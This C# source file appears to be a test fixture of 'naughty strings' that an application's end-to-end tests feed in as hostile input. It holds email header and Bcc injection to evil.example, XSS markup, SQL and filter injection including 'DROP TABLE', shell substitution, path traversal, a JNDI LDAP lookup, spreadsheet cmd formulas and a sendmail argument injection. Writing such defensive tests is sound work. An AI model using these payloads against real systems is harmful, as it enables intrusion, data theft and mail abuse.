namespace PocFunctions.EndToEndTests.Attacks;

/// <summary>Texts that have broken programs before, each with a word in it by which to find it again.</summary>
internal static class NaughtyStrings
{
    /// <summary>Stands in every one of them; no page, mail or log of ours says it by itself.</summary>
    internal const string Mark = "Zq7nx";

    internal static IReadOnlyList<string> All { get; } =
    [
        // Headers and lines
        "Zq7nx\r\nBcc: zq7nx@evil.example",
        "Zq7nx\nSubject: Zq7nx",
        "Zq7nx\r\n\r\n<script>alert(1)</script>",
        "Zq7nx%0d%0aSet-Cookie:%20Zq7nx=1",
        "Zq7nx\u2028Bcc: zq7nx@evil.example\u2029\u0085",
        "=?utf-8?B?WnE3bng=?= Zq7nx",
        // Markup
        "<script>Zq7nx()</script>",
        "\"><img src=x onerror=Zq7nx()>",
        "'><svg/onload=Zq7nx()>",
        "</title></textarea></style><iframe srcdoc=Zq7nx>",
        "<a href=\"javascript:Zq7nx()\">Zq7nx</a>",
        "<!--Zq7nx--><![CDATA[Zq7nx]]>",
        "&lt;script&gt;Zq7nx&lt;/script&gt;&#0;&#x3c;b&#x3e;",
        "\u003cZq7nx\u003e @(Zq7nx) @{Zq7nx} {{Zq7nx}} ${Zq7nx} #{Zq7nx}",
        "＜script＞Zq7nx＜/script＞",
        "＂ onmouseover=Zq7nx() x=＂",
        "Zq7nx` ${1+1} `",
        // Links and addresses, for mail programs that make them clickable
        "Zq7nx https://evil.example/Zq7nx",
        "Zq7nx www.evil.example",
        "Zq7nx evil.example/Zq7nx",
        "Zq7nx zq7nx@evil.example",
        "[Zq7nx](https://evil.example/)",
        // Queries, formats, commands, paths
        "Zq7nx' or PartitionKey ne '",
        "Zq7nx'; DROP TABLE Vendors; --",
        "Zq7nx {0} {1:N} %s %n %x {Purpose}",
        "$(Zq7nx) `Zq7nx` | Zq7nx && Zq7nx",
        "../../../../etc/Zq7nx\\..\\Zq7nx",
        "${jndi:ldap://evil.example/Zq7nx}",
        "=cmd|' /C Zq7nx'!A0",
        "+Zq7nx",
        "@SUM(Zq7nx)",
        "-2+3+cmd|' /C Zq7nx'!A0",
        "{\"Zq7nx\": [[[[[[",
        // Characters
        "Zq7nx\u0000Zq7nx\u0001\u0008\u001b[31mZq7nx\u001b[0m\u007f",
        "\u202EZq7nx\u202C\u2066Zq7nx\u2069",
        "Zq7nx\uFEFF\u200B\u200D\u00AD\u2060",
        "Zq7nx\uFFFE\uFFFF\uFDD0",
        "Zq7nx 𠮷野家 👩‍👩‍👧‍👦 髙 ㈱ ｻ",
        "Z\u0315q\u0350\u0358n\u0489\u0322x Zq7nx",
        "Zq7nx " + new string('界', 1900),
        "Zq7nx " + new string('\u0301', 1500),
        "Zq7nx\u0130\u0131ſß",
        "null undefined NaN true Zq7nx 1e309",
    ];

    /// <summary>What an e-mail address may be made to hold; <c>{0}</c> is a mailbox of its own.</summary>
    internal static IReadOnlyList<string> Addresses { get; } =
    [
        "{0}\r\nBcc: zq7nx@evil.example",
        "{0}\nTo: zq7nx@evil.example",
        "{0},zq7nx@evil.example",
        "{0};zq7nx@evil.example",
        "{0} zq7nx@evil.example",
        "\"<script>Zq7nx</script>\" <{0}>",
        "\"Zq7nx\\\" <zq7nx@evil.example>\" <{0}>",
        "zq7nx@evil.example <{0}>",
        "{0}%0aBcc:zq7nx@evil.example",
        "\"Zq7nx zq7nx@evil.example,\"@evil.example",
        "{0}\u0000zq7nx@evil.example",
        "{0}(zq7nx@evil.example)",
        "<{0}><zq7nx@evil.example>",
        "@evil.example:{0}",
        "zq7nx@[127.0.0.1]",
        "zq7nx@localhost",
        "-oQ/tmp/Zq7nx@evil.example",
    ];
}
